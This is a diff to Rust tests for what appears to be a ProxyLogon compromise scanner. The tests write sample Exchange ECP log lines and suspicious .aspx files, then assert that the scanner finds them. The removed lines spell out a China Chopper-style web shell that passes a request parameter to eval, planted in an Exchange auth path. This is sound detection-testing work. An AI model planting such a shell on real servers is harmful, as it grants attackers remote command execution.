@@ -168,10 +168,7 @@ fn pl004_set_virtual_directory_with_script() {
     t.file(format!("{dir}/ECPServer_benign.LOG"), &benign);
     let r = run(t.root(), &[Campaign::ProxyLogon]);
     assert!(r.findings.is_empty(), "{:#?}", r.findings);
-    let script = concat!(
-        "<scr",
-        "ipt language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){}</script>"
-    );
+    let script = ferret_testkit::samples::empty_page_load_script().replace('"', "\"\"");
     let mut pos = benign.clone();
     pos.push_str(&format!("2021-03-03T03:10:00.000Z,EXCH01,ECP.Request,\"S:TIME=95;S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/{script}'.Identity='x'\"\n"));
     t.file(format!("{dir}/ECPServer_positive.LOG"), &pos);
@@ -287,13 +284,8 @@ fn pl006_web_shells() {
     let r = run(t.root(), &[]);
     assert!(r.findings.is_empty(), "{:#?}", r.findings);
     assert_eq!(r.verdict(Campaign::ProxyLogon), Some(Verdict::NotFound));
-    let chopper = concat!(
-        "http://f/<script language=\"JScript\" ",
-        "runat=\"server\">function Page_Load(){",
-        "ev",
-        "al(Request[\"orange\"],\"unsafe\");}</script>"
-    );
-    t.file(format!("{V15}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx"), chopper);
+    let chopper = format!("http://f/{}", ferret_testkit::samples::chopper_script("orange"));
+    t.file(format!("{V15}/FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx"), &chopper);
     t.file("inetpub/wwwroot/aspnet_client/system_web/supp0rt.aspx", "<%@ Page Language=\"C#\" %>x");
     t.file("inetpub/wwwroot/aspnet_client/notes.aspx", "<%@ Page Language=\"C#\" %>y");
     let r = run(t.root(), &[]);
